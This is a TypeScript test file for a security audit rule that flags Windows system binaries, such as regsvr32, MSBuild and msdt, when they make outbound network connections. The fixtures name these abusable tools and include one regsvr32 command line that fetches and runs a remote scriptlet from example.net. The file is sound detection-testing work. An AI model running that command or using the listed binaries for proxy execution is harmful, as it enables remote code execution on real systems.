/**
 * Tests of the rule on programs that do not call out.
 *
 * @module
 */
import { silentToolConnection } from "../../../../lib/audit/rules/tools/silent_tool_connection.ts";
import { testRule } from "../../../support/audited.ts";

testRule(silentToolConnection, {
  bad: [
    ..."bginfo bginfo64 cdb csi dnx fsi ieexec iexpress msdt msxsl odbcconf rcsi regsvr32 xwizard mobsync"
      .split(" ").map((stem) => ({ process: `${stem}.exe` })),
    { process: "Microsoft.Workflow.Compiler.exe" },
    {
      process: "MSBuild.exe",
      path: "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
    },
    { process: "MSBuild.exe" },
    { process: "msiexec.exe", remotePort: 8080 },
    { process: "regsvr32.exe", commandLine: "regsvr32 /s /u /i:http://example.net/x scrobj.dll" },
  ],
  good: [
    { process: "regsvr32.exe", remoteAddress: "10.0.0.9" },
    { process: "msbuild.exe", remoteAddress: "127.0.0.1" },
    { process: "odbcconf.exe", direction: "inbound" },
    // Narrower rules speak for these.
    { process: "msiexec.exe" },
    { process: "regsvr32.exe", commandLine: "C:\\Windows\\System32\\regsvr32.exe" },
    { process: "mshta.exe" },
    { process: "installutil.exe" },
    { process: "cmstp.exe" },
    { process: "devenv.exe" },
  ],
  unknown: [
    ["direction", { process: "msdt.exe", direction: null }],
    ["process", { process: null }],
  ],
});

// Visual Studio and the software kits fetch packages.
testRule(silentToolConnection, {
  severity: "low",
  bad: [{
    process: "MSBuild.exe",
    path: "C:\\Program Files\\Microsoft Visual Studio\\2022\\MSBuild\\Current\\Bin\\MSBuild.exe",
  }],
  good: [{ process: "MSBuild.exe", remoteAddress: "10.0.0.9" }],
});
